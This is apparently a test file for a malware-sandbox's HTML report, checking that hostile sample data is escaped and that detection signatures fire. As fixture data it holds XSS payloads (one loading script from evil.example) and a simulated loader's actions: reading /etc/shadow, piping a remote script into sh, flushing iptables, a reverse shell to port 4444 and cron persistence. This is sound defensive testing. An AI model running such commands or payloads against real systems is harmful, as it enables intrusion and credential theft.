import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { promisify } from 'node:util';
import { deflateSync, crc32 } from 'node:zlib';
import { EVENTS_FILE } from '../../src/report/events.js';
import { isNestboxError } from '../../src/errors.js';
import { reconstructBehavior } from '../../src/processing/behavior-log.js';
import type { Report } from '../../src/report/report-types.js';
import { renderHtmlReport } from '../../src/reporting/html.js';
import { writeReports } from '../../src/reporting/index.js';
import { runSignatures, scoreOf } from '../../src/signatures/index.js';
import type { AnalysisPaths } from '../../src/storage/layout.js';
import { baseReport, emptyNetwork, EventLog, makeAnalysis } from '../helpers/signatures.js';

const run = promisify(execFile);
const ARTIFACTS = fileURLToPath(new URL('../../../test-artifacts/', import.meta.url));

/** Strings a sample controls, each trying to break out of the page. */
const HOSTILE = {
  target: '<b>invoice</b>.pdf.elf',
  command: ['sh', '-c', `echo "<script>alert('cmd')</script>"`],
  processName: '<img src=x onerror=alert(1)>',
  domain: '"><svg/onload=alert(2)>.evil.example',
  userAgent: '</code></td></tr></table><script>alert(3)</script>',
  dropped: '/tmp/<iframe src=javascript:alert(4)>',
  hiddenDir: '/tmp/.<script>alert(5)</script>',
  staticComment: '<style>body{display:none}</style>',
  string: '<script src=http://evil.example/x.js></script>',
};

/** A small real PNG (RGB gradient), as the screenshot auxiliary stores them. */
function png(width: number, height: number): Buffer {
  const rows: Buffer[] = [];
  for (let y = 0; y < height; y++) {
    const row = Buffer.alloc(1 + width * 3);
    for (let x = 0; x < width; x++) row.set([(x * 255) / width, (y * 255) / height, 160], 1 + x * 3);
    rows.push(row);
  }
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
    const framed = Buffer.alloc(body.length + 8);
    framed.writeUInt32BE(data.length, 0);
    body.copy(framed, 4);
    framed.writeUInt32BE(crc32(body), body.length + 4);
    return framed;
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', header), chunk('IDAT', deflateSync(Buffer.concat(rows))), chunk('IEND', Buffer.alloc(0))]);
}

/** What a loader sample does, as the tracer logs it. */
function maliciousEvents(): EventLog {
  return new EventLog()
    .exec(100, '/tmp/sample.bin', ['./sample.bin'])
    .read(100, '/etc/shadow')
    .add(100, { kind: 'process.ptrace', request: 0, target: 0, ret: -1 })
    .add(100, { kind: 'file.mkdir', path: HOSTILE.hiddenDir, mode: 0o755, ret: 0 })
    .append(100, '/etc/cron.d/sysupdate')
    .fork(100, 101)
    .exec(101, '/bin/sh', ['sh', '-c', 'curl -fsSL http://198.51.100.20/i.sh | sh'])
    .fork(100, 102)
    .exec(102, '/usr/sbin/iptables', ['iptables', '-F'])
    .connect(100, '203.0.113.5', 4444)
    .exec(100, '/bin/sh', ['sh', '-i'])
    .add(100, { kind: 'process.rename', name: 'kworker/0:1' })
    .add(100, { kind: 'file.delete', path: '/tmp/sample.bin', ret: 0 })
    .fork(100, 103)
    .exec(103, `/tmp/${HOSTILE.processName}`, [HOSTILE.processName])
    .fork(100, 104)
    .exec(104, '/bin/sh', HOSTILE.command);
}

/**
 * A complete report of a hostile sample: the behaviour section rebuilt from a real event log by the
 * processing module's reconstruction, signatures from the real engine over the same log.
 */
async function realisticReport(paths: AnalysisPaths): Promise<Report> {
  writeFileSync(join(paths.dir, EVENTS_FILE), maliciousEvents().text());
  const behavior = (await reconstructBehavior(join(paths.dir, EVENTS_FILE)))?.section;
  assert.ok(behavior, 'the behaviour section was rebuilt');
  writeFileSync(join(paths.shots, '0001.png'), png(320, 200));
  writeFileSync(join(paths.files, 'dropped.bin'), 'payload');
  const report = baseReport(paths.binary, {
    static: { elf: { class: 'ELF64', machine: 'x86-64', entry_point: '0x401000', comment: HOSTILE.staticComment }, packer: { names: ['UPX'], entropy: 7.7, high_entropy: true, high_entropy_sections: [] } },
    strings: ['/lib64/ld-linux-x86-64.so.2', HOSTILE.string, 'http://198.51.100.20/i.sh'],
    behavior,
    network: {
      ...emptyNetwork(),
      hosts: ['198.51.100.20', '203.0.113.5'],
      dns: [{ request: HOSTILE.domain, type: 'A', answers: [{ type: 'A', data: '198.51.100.20' }] }],
      domains: [{ domain: HOSTILE.domain, ip: '198.51.100.20' }],
      tcp: [
        { src: '10.13.0.2', sport: 40000, dst: '198.51.100.20', dport: 80, offset: 24, time: 0.5 },
        { src: '10.13.0.2', sport: 40001, dst: '203.0.113.5', dport: 4444, offset: 900, time: 1.5 },
      ],
      http: [{ count: 1, host: '198.51.100.20', port: 80, data: 'GET /i.sh HTTP/1.1', uri: 'http://198.51.100.20/i.sh', body: '', path: '/i.sh', 'user-agent': HOSTILE.userAgent, version: '1.1', method: 'GET' }],
    },
    dropped: [
      {
        name: 'dropped.bin',
        path: join(paths.files, 'dropped.bin'),
        filepath: HOSTILE.dropped,
        pids: [100],
        size: 7,
        crc32: '00000000',
        md5: 'a'.repeat(32),
        sha1: 'b'.repeat(40),
        sha256: 'c'.repeat(64),
        sha512: 'd'.repeat(128),
        ssdeep: null,
        type: 'ASCII text, with no line terminators',
        yara: [],
        urls: [],
      },
    ],
    screenshots: [{ path: join(paths.shots, '0001.png'), ocr: '' }],
    debug: { log: [], cuckoo: [], action: [], errors: [] },
  });
  report.target.file!.name = HOSTILE.target;
  report.target.file!.type = 'ELF 64-bit LSB executable, x86-64';
  report.signatures = await runSignatures(report, paths);
  report.info.score = scoreOf(report.signatures);
  return report;
}

async function chromium(args: string[], profile: string): Promise<string> {
  const { stdout } = await run(
    'chromium',
    [
      '--headless',
      '--no-sandbox',
      '--disable-gpu',
      '--disable-background-networking',
      '--disable-component-update',
      '--disable-sync',
      '--no-first-run',
      // Containment: nothing the browser might look up resolves.
      '--host-resolver-rules=MAP * ~NOTFOUND',
      `--user-data-dir=${profile}`,
      ...args,
    ],
    { timeout: 120_000, maxBuffer: 64 << 20 },
  );
  return stdout;
}

describe('report.html', () => {
  let analysis: { paths: AnalysisPaths; remove(): void };
  let report: Report;
  let page: string;
  let profile: string;

  before(async () => {
    analysis = makeAnalysis();
    profile = mkdtempSync(join(tmpdir(), 'nestbox-chromium-'));
    report = await realisticReport(analysis.paths);
    await writeReports(report, analysis.paths);
    page = readFileSync(analysis.paths.reportHtml, 'utf8');
    mkdirSync(ARTIFACTS, { recursive: true });
    copyFileSync(analysis.paths.reportHtml, join(ARTIFACTS, 'report.html'));
  });
  after(() => {
    analysis.remove();
    rmSync(profile, { recursive: true, force: true });
  });

  it('is written next to report.json, which holds the same signatures', () => {
    const json = JSON.parse(readFileSync(analysis.paths.reportJson, 'utf8')) as Report;
    assert.deepEqual(json.signatures, report.signatures);
    assert.ok(report.signatures.length >= 8, report.signatures.map((match) => match.name).join(', '));
    assert.ok(report.info.score >= 8);
  });

  it('escapes every value from the sample and contains no script or remote resource', () => {
    assert.doesNotMatch(page, /<script|<iframe|<svg|<img src=x|<b>invoice/i);
    assert.equal(page.match(/<style>/g)?.length, 1, 'only the page\'s own style sheet');
    assert.ok(page.includes('&lt;script&gt;alert(') && page.includes('cmd'), 'the command line, escaped');
    assert.ok(page.includes('&lt;img src=x onerror=alert(1)&gt;'));
    assert.ok(page.includes('&quot;&gt;&lt;svg/onload=alert(2)&gt;.evil.example'));
    assert.ok(page.includes('&lt;/code&gt;&lt;/td&gt;&lt;/tr&gt;&lt;/table&gt;&lt;script&gt;alert(3)&lt;/script&gt;'));
    assert.ok(page.includes('/tmp/&lt;iframe src=javascript:alert(4)&gt;'));
    assert.ok(page.includes('&lt;style&gt;body{display:none}&lt;/style&gt;'));
    const links = [...page.matchAll(/\b(?:src|href)="([^"]*)"/g)].map((match) => match[1] ?? '');
    assert.ok(links.length > 0);
    for (const link of links) assert.match(link, /^(#[a-z]+|data:image\/(png|jpeg);base64,[A-Za-z0-9+/=]+|\.\.\/shots\/\d+\.(png|jpe?g))$/);
    assert.match(page, /<meta http-equiv="Content-Security-Policy" content="default-src &#39;none&#39;; img-src data:/);
  });

  it('embeds the screenshots as data URIs', () => {
    const embedded = readFileSync(join(analysis.paths.shots, '0001.png')).toString('base64');
    assert.ok(page.includes(`src="data:image/png;base64,${embedded}"`));
  });

  it('renders in headless Chromium with the signatures, process tree and network', async () => {
    const url = pathToFileURL(analysis.paths.reportHtml).href;
    const dom = await chromium(['--dump-dom', url], profile);
    // Chromium serialises text nodes with &, < and > escaped.
    const asText = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
    for (const match of report.signatures) assert.ok(dom.includes(asText(match.description)), match.name);
    for (const name of ['reverse_shell', 'credential_shadow', 'persistence_cron', 'firewall_tampering']) assert.ok(dom.includes(name), name);
    assert.doesNotMatch(dom, /<script|<iframe|<svg/i);
    assert.ok(dom.includes('alert(5)'), 'the hostile folder name is shown as text in the marks');
    assert.ok(dom.includes('198.51.100.20') && dom.includes('Process tree') && dom.includes('iptables -F'));

    const screenshot = join(analysis.paths.dir, 'page.png');
    await chromium(['--window-size=1280,2400', '--hide-scrollbars', `--screenshot=${screenshot}`, url], profile);
    assert.ok(existsSync(screenshot), 'Chromium wrote a screenshot');
    const image = readFileSync(screenshot);
    assert.ok(image.subarray(0, 8).equals(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])), 'a PNG');
    assert.deepEqual([image.readUInt32BE(16), image.readUInt32BE(20)], [1280, 2400]);
    assert.ok(image.length > 50_000, `${image.length} bytes: a rendered page, not a blank one`);
    copyFileSync(screenshot, join(ARTIFACTS, 'report-html.png'));
  });
});

describe('writeReports', () => {
  it('still writes report.html when report.json cannot be written, and says which failed', async () => {
    const analysis = makeAnalysis();
    try {
      mkdirSync(join(analysis.paths.reportJson, 'occupied'), { recursive: true });
      const error = await writeReports(baseReport(analysis.paths.binary), analysis.paths).then(
        () => assert.fail('expected a failure'),
        (failure: unknown) => failure,
      );
      assert.ok(isNestboxError(error, 'internal'));
      assert.match(error.message, /^writing report\.json failed: /);
      assert.ok(readFileSync(analysis.paths.reportHtml, 'utf8').startsWith('<!DOCTYPE html>'));
      assert.ok(!existsSync(`${analysis.paths.reportJson}.tmp`));
    } finally {
      analysis.remove();
    }
  });

  it('still writes report.json when report.html cannot be written', async () => {
    const analysis = makeAnalysis();
    try {
      mkdirSync(join(analysis.paths.reportHtml, 'occupied'), { recursive: true });
      await assert.rejects(writeReports(baseReport(analysis.paths.binary), analysis.paths), /^NestboxError: writing report\.html failed: /);
      assert.equal((JSON.parse(readFileSync(analysis.paths.reportJson, 'utf8')) as Report).info.id, 1);
    } finally {
      analysis.remove();
    }
  });

  it('shows which archive a file was unpacked from, escaped', async () => {
    const analysis = makeAnalysis();
    try {
      const report = baseReport(analysis.paths.binary);
      const archive = { ...report.target.file!, name: '<i>bundle</i>.zip', type: 'Zip archive data, at least v2.0 to extract', sha256: 'ab'.repeat(32) };
      report.info.category = 'archive';
      report.target = { category: 'archive', file: report.target.file, filename: 'bin/<b>x</b>.sh', archive, human: 'bin/<b>x</b>.sh @ <i>bundle</i>.zip' };
      const page = await renderHtmlReport(report, analysis.paths);
      assert.ok(page.includes('<p class="target"><code>bin/&lt;b&gt;x&lt;/b&gt;.sh @ &lt;i&gt;bundle&lt;/i&gt;.zip</code></p>'), 'the header names the file and its archive');
      for (const fact of ['From archive', 'Path in archive', 'Archive type', 'Archive SHA-256', 'ab'.repeat(32), 'Zip archive data', '&lt;i&gt;bundle&lt;/i&gt;.zip']) {
        assert.ok(page.includes(fact), fact);
      }
      assert.ok(!page.includes('<b>x</b>') && !page.includes('<i>bundle</i>'));
      const plain = await renderHtmlReport(baseReport(analysis.paths.binary), analysis.paths);
      assert.ok(!plain.includes('From archive'), 'a plain file task has no archive facts');
    } finally {
      analysis.remove();
    }
  });

  it('creates the reports folder when it is missing and renders a report with no optional sections', async () => {
    const analysis = makeAnalysis();
    try {
      rmSync(analysis.paths.reports, { recursive: true });
      const minimal = baseReport(analysis.paths.binary);
      await writeReports(minimal, analysis.paths);
      const page = await renderHtmlReport(minimal, analysis.paths);
      assert.ok(page.includes('No signature matched.') && page.includes('No network capture.') && page.includes('No screenshots.'));
      assert.ok(existsSync(analysis.paths.reportJson) && existsSync(analysis.paths.reportHtml));
    } finally {
      analysis.remove();
    }
  });
});
